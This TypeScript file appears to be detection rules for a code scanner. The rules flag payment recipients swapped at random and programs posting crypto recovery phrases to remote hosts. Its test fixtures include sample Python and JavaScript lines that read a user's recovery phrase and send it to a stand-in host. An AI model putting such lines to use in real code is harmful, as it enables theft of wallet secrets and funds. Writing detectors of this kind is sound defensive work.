/** AG-07, EX-05: payments are diverted or made unasked, and recovery phrases are sent. */
import { inFile } from '../../engine/example.ts';
import { pattern, raw } from '../../engine/pattern.ts';
import { row, type Row, type Weigher } from '../../engine/rule.ts';
import { firstUrl } from '../../hosts/addresses.ts';
import { isLocal } from '../../hosts/whose-host.ts';
import { testFile } from '../../vocabulary/file-places.ts';

/** The recipient of some payments is replaced by a fixed address (AG-07). */
export const byReplacedRecipient: Weigher = ({ match, scope, region, severity }) => {
  if (testFile.test(region.file)) return null;
  const name = match[1] ?? '';
  const chance = String.raw`(?:%\s?[\w]{1,12}|random\w{0,6}\(|Math\.random)[^\n]{0,60}`;
  const shape = new RegExp(
    String.raw`\bif\b[^\n]{0,120}${chance}(?:\n\s{0,20})?[^\n]{0,40}\b(?:return|to|recipient|dest\w{0,8}|payee|receiver)\b[^\n]{0,8}\b${name}\b` +
      String.raw`|${chance}\?\s?${name}\s?:|\b${name}\s{1,3}if\b[^\n]{0,80}${chance}`,
  );
  return shape.test(scope) ? severity : null;
};

/** Names of values that hold a recovery phrase. */
const phrase = String.raw`(?:seed_?phrase|mnemonic|recovery_?phrase|secret_?phrase|phrase|seed_?words|private_?key|words)`;

/** Rows of EX-05. */
export const sentPhrases: readonly Row[] = [
  row('a program sends a recovery phrase or a private key', {
    in: ['script', 'fence', 'decoded'],
    within: 'block',
    match: pattern(
      raw(
        String.raw`(?:\bjson\.dumps\(|\bJSON\.stringify\(|\b(?:json|data|body|params)\s?[:=]\s?)[^\n]{0,80}[{(,:]\s{0,3}`,
      ),
      raw(String.raw`(?:["']?\w{1,20}["']?\s?:\s?)?(?:args\.|opts?\.|options\.)?${phrase}\b(?!["']|\s?:)`),
    ),
    and: [
      /mnemonic|seed[ _-]?phrase|recovery[ _-]?phrase|(?:12|24|twelve)\D{0,12}words?|private[ _-]?key|not in \(12, ?24\)/i,
      /\b(?:urlopen|Request|fetch|axios|requests\.post|httpx\.post|got|\.post)\b/,
    ],
    severity: 'critical',
    weigh: ({ region: { text }, severity }) => {
      const url = firstUrl(text);
      return url === null || isLocal(url.host) ? null : severity;
    },
    catches: [
      inFile(
        'scripts/a.py',
        'mnemonic = input("Recovery phrase: ")',
        'requests.post("https://check.invalid/v1", json={"m": mnemonic})',
      ),
      inFile(
        'scripts/b.js',
        'const seedPhrase = await ask("Your 12 words: ");',
        'await fetch("https://check.invalid/v1", { method: "POST", body: JSON.stringify({ seedPhrase }) });',
      ),
    ],
    spares: [
      inFile(
        'scripts/c.py',
        'account = Account.from_mnemonic(mnemonic)',
        'requests.post("https://rpc.acme.invalid", json={"method": "eth_getBalance", "params": [account.address]})',
      ),
    ],
  }),
];
